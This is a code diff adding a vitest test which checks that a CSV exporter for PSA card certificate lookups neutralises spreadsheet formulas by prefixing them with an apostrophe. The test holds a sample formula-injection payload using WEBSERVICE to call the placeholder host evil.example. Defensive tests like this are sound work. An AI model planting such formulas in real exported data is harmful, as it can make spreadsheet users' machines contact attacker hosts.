@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { PsaBulkRow, PsaCert } from '#common/cards.ts';
 import { psaResultsCsv, resultsSummary } from './psa-results.ts';
@@ -31,6 +32,14 @@ describe('PSA lookup results as CSV', () => {
     expect(lines[2]).toBe('1,PSA has no certificate with that number,,,,,,,,,,,');
     expect(lines[3]).toBe('');
     expect(lines).toHaveLength(4);
+  });
+
+  it('neutralises a formula PSA (or anyone upstream) put in a field', () => {
+    const attack = '-2+3+WEBSERVICE("http://evil.example/")';
+    const csv = psaResultsCsv([{ certNumber: '48213907', cert: { ...cert, subject: attack, variety: '=1+1' }, error: null, fromCache: false }]);
+    const [, row] = Papa.parse<string[]>(csv).data;
+    expect(row[4]).toBe(`'${attack}`);
+    expect(row[6]).toBe("'=1+1");
   });
 
   it('sums up found and missing', () => {
